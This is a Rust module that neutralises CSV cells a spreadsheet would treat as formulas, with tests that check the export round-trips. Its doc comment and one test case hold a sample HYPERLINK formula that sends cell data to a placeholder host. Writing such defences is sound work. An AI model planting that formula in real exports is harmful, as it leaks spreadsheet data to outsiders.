//! Spreadsheet formula injection: every CSV (and later workbook) the project writes goes
//! through [`CsvOut`], which neutralises cells a spreadsheet would run as a formula, and every
//! CSV it reads goes through [`restore`], so an export still round-trips.
//!
//! A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula (or
//! becomes one) in Excel and LibreOffice: `=HYPERLINK("http://…?x="&A1,"Klik")` in a reason
//! would send the sheet's data away when an approver opens the audit export. Such a cell is
//! written with a leading apostrophe (`'=HYPERLINK(…)`), which the spreadsheet shows as text
//! (OWASP's advice for CSV injection).

use std::borrow::Cow;

/// The characters that make a spreadsheet cell a formula when they come first.
pub const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as it is safe to write: a leading `'` before a formula start, else unchanged.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if FORMULA_START.contains(&c) => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// The value behind a cell written by [`neutralise`]: the leading `'` is dropped when a formula
/// start follows it.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) => rest,
        _ => cell,
    }
}

/// A CSV writer (RFC 4180, comma-separated) into memory whose every cell is [`neutralise`]d.
#[derive(Debug)]
pub struct CsvOut {
    w: csv::Writer<Vec<u8>>,
}

impl Default for CsvOut {
    fn default() -> Self {
        Self {
            w: csv::Writer::from_writer(Vec::new()),
        }
    }
}

impl CsvOut {
    /// Writes one row.
    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        // Writing into a Vec cannot fail.
        let _ = self.w.write_record(
            cells
                .into_iter()
                .map(|c| neutralise(c.as_ref()).into_owned()),
        );
    }

    /// The bytes written so far, and a fresh buffer for the next rows (for streaming).
    pub fn take(&mut self) -> Vec<u8> {
        let w = std::mem::replace(&mut self.w, csv::Writer::from_writer(Vec::new()));
        w.into_inner().unwrap_or_default()
    }

    /// Everything written, as text.
    pub fn finish(mut self) -> String {
        String::from_utf8(self.take()).unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_restored() {
        let cases = [
            ("=HYPERLINK(\"http://x?d=\"&A1,\"Klik\")", true),
            ("+62 711 123", true),
            ("-1+1", true),
            ("@SUM(A1:A2)", true),
            ("\t=1", true),
            ("\r=1", true),
            ("Budi Santoso", false),
            ("2027-04-01", false),
            ("'quoted", false),
            ("", false),
        ];
        for (cell, formula) in cases {
            let safe = neutralise(cell);
            assert_eq!(
                safe.starts_with('\'') && !cell.starts_with('\''),
                formula,
                "{cell:?}"
            );
            assert!(!safe.starts_with(FORMULA_START), "{cell:?} → {safe:?}");
            assert_eq!(restore(&safe), cell, "{cell:?} round-trips");
        }
    }

    #[test]
    fn the_writer_neutralises_every_cell_and_streams() {
        let mut w = CsvOut::default();
        w.row(["a", "=1+1"]);
        let first = w.take();
        w.row(["@x", "b"]);
        let rest = w.finish();
        assert_eq!(String::from_utf8(first).unwrap(), "a,'=1+1\n");
        assert_eq!(rest, "'@x,b\n");
    }
}
